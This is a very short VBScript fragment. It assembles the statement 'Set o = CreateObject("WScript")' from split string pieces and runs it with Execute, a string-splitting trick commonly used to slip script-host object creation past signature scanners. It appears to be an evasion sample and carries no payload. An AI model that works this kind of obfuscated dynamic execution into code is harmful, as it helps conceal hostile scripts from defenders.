s = "Set o = Cre"
S = s & "ateObject(""WScr" & _
 "ipt"")" & vbCrLf
Execute s
